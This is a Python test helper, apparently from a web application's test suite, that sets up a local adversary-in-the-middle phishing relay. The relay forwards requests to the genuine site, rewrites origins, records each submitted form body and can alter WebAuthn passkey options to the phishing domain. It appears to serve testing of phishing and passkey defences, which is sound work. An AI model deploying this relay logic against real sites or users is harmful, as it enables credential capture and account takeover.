"""A phishing site with a real relay behind it: each request goes on to the honest site, in the honest site's name."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import httpx

from tests.web.kit import Served

_NOT_PASSED_ON = {"host", "content-length", "transfer-encoding", "connection", "accept-encoding", "content-encoding"}


class Relay:
    """A site at `origin`. It keeps what it has `passed` on: the path and the body of each form.

    With `own_rp_id`, it asks the browser for a passkey of the phishing site itself.
    """

    def __init__(self, served: Served, host: str, port: int) -> None:
        self.served = served
        self.origin = f"http://{host}:{port}"
        self.passed: list[tuple[str, str]] = []
        self.own_rp_id = False

    def pass_on(self, method: str, path: str, headers: dict[str, str], body: bytes) -> httpx.Response:
        """Return the honest site's answer to a request that looks like one of its own pages'."""
        honest = {name: value.replace(self.origin, self.served.origin) for name, value in headers.items()}
        honest = {name: value for name, value in honest.items() if name.lower() not in _NOT_PASSED_ON}
        honest["Host"] = urlsplit(self.served.origin).netloc
        if method == "POST":
            self.passed.append((path, body.decode()))
        return httpx.request(method, self.served.url + path, headers=honest, content=body, timeout=30)

    def changed(self, answer: httpx.Response) -> bytes:
        """Return what the victim's browser gets."""
        if self.own_rp_id and answer.headers.get("content-type") == "application/json" and answer.is_success:
            given = answer.json()
            given["options"] |= {"rpId": "sh0p.localhost", "allowCredentials": [], "timeout": 1000}
            return json.dumps(given).encode()
        return answer.content.replace(self.served.origin.encode(), self.origin.encode())


@contextmanager
def relaying(served: Served, host: str) -> Iterator[Relay]:
    """A relay at a port of its own, until the end of the block."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            length = int(self.headers.get("Content-Length", 0))
            answer = relay.pass_on(self.command, self.path, dict(self.headers), self.rfile.read(length))
            body = relay.changed(answer)
            self.send_response(answer.status_code)
            for name, value in answer.headers.multi_items():
                if name not in _NOT_PASSED_ON:
                    self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *arguments: object) -> None:
            """Nothing to tell."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    relay = Relay(served, host, server.server_port)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield relay
    finally:
        server.shutdown()
        server.server_close()
